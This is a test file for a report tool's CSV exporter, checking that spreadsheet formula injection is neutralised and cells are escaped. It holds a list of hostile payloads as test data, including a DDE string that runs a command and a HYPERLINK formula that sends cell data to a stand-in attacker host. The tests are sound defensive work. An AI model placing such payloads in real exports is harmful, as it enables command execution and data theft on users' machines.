import { describe, expect, it } from 'vitest';
import { CsvParser } from '../../src/report/csv.js';
import { csvCell, formatCsv } from '../../src/report/format-csv.js';
import type { CommitmentFigures, ComplianceReport, Figures } from '../../src/model/compliance-report.js';
import { edit, VALID_UNIT } from '../fixtures/charters.js';
import { AS_OF, CHARTERS } from '../fixtures/contact-log.js';
import { noBadRows } from '../fixtures/compliance.js';
import { runCli, writeTree } from '../helpers.js';

/** Texts a spreadsheet would run as formulas, or that break the row. */
const HOSTILE = [
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1',
  '-1',
  '@SUM(A1:A9)',
  '  =1+1',
  '\u00a0+cmd',
  '\t=1',
  '\tplain',
  '\r=1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  'a,b',
  'a;b',
  'say "hi"',
  'two\nlines',
];

/** Every record of a CSV text, as fields. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  const parser = new CsvParser(
    (fields) => records.push(fields),
    (line, column, message) => {
      throw new Error(`${line}:${column}: ${message}`);
    },
  );
  parser.push(text.replace(/\r\n/g, '\n'));
  parser.end();
  return records;
}

/** What a spreadsheet must see for a text cell: the text, with `'` before anything it could run. */
function expectedText(value: string): string {
  return /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(value) ? `'${value}` : value;
}

function isInert(cell: string): boolean {
  return !/^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(cell);
}

const FIGURES: Figures = { count: 3, met: 2, missed: 1, pending: 0, shareMet: 2 / 3, status: 'missed', median: 1.5, p90: 2 };

function reportWith(texts: readonly string[]): ComplianceReport {
  const commitments: CommitmentFigures[] = texts.map((text) => ({
    charter: text,
    file: 'charters/x.yaml',
    unitName: text,
    languages: ['fi'],
    channel: text,
    commitment: text,
    commitmentName: null,
    line: text,
    lineName: null,
    groups: [text],
    groupNames: [],
    service: text,
    serviceName: null,
    measure: 'within',
    within: text,
    unit: 'working day',
    target: 0.9,
    total: FIGURES,
    months: [{ month: text, ...FIGURES }],
  }));
  return {
    asOf: '2027-01-15T10:00:00.000Z',
    from: null,
    to: null,
    months: [],
    commitments,
    rows: { read: 0, measured: 0, outsideRange: 0, notStarted: 0, bad: 0 },
    badRowCounts: noBadRows(),
    badRows: [],
    overdueReviews: [],
    unmeasuredCharters: [],
  };
}

describe('formatCsv', () => {
  it('gives every hostile text cell back intact behind a leading quote, and every number as a number', () => {
    const records = parseCsv(formatCsv(reportWith(HOSTILE)));
    expect(records).toHaveLength(1 + 2 * HOSTILE.length);
    for (const [index, value] of HOSTILE.entries()) {
      for (const record of records.slice(1 + 2 * index, 3 + 2 * index)) {
        expect(record).toHaveLength(24);
        const [charter, channel, commitment, within, target, month, ...rest] = record as [string, string, string, string, string, string, ...string[]];
        for (const text of [charter, channel, commitment, within]) expect(text).toBe(expectedText(value));
        expect(month === 'all' || month === expectedText(value)).toBe(true);
        expect(target).toBe('0.9');
        const place = expectedText(value);
        expect(rest).toEqual(['3', '2', '1', '0', '0.6667', '1.5', '2', 'working day', 'missed', 'within', place, place, place, '', '', '', '', '1']);
        for (const cell of record) expect(isInert(cell)).toBe(true);
      }
    }
  });

  it('quotes cells with a separator, quote or line break, and leaves plain text and our numbers bare', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('building-control')).toBe('building-control');
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(0.9)).toBe('0.9');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('shows control characters other than tabs and line breaks as escapes', () => {
    expect(csvCell('unit\u001b[2J\u0007\u009b31m')).toBe('unit\\u001b[2J\\u0007\\u009b31m');
    expect(csvCell('\u0000=1')).toBe('\\u0000=1');
  });
});

describe('charter report --format csv on charters with hostile ids', () => {
  it('writes no cell a spreadsheet would run, whatever the charter ids', async () => {
    const ids = ["-2+3+cmd|' /C calc'!A0", '=1+1', '@SUM(A1)', '\t=1', ' +1', '\uFF1Dx', 'a;b,c'];
    const charters = Object.fromEntries(
      ids.map((id, index) => [`charters/unit-${index}.yaml`, edit(VALID_UNIT, 'id: test-unit', `id: ${JSON.stringify(id)}`)]),
    );
    const cwd = writeTree({ ...CHARTERS, ...charters, 'log.csv': 'charter,channel,commitment,start,end\n' });
    const result = await runCli(['report', 'log.csv', '--as-of', AS_OF, '--format', 'csv'], cwd);
    expect(result.code).toBe(0);
    const records = parseCsv(result.stdout);
    const charterCells = records.slice(1).map((record) => record[0] as string);
    // Such ids fail the schema, so these charters are not measured: only the valid units reach the CSV.
    for (const id of ids) expect(charterCells).not.toContain(expectedText(id));
    expect(new Set(charterCells)).toEqual(new Set(['small-unit', 'test-unit']));
    for (const record of records) for (const cell of record) expect(isInert(cell)).toBe(true);
  });
});
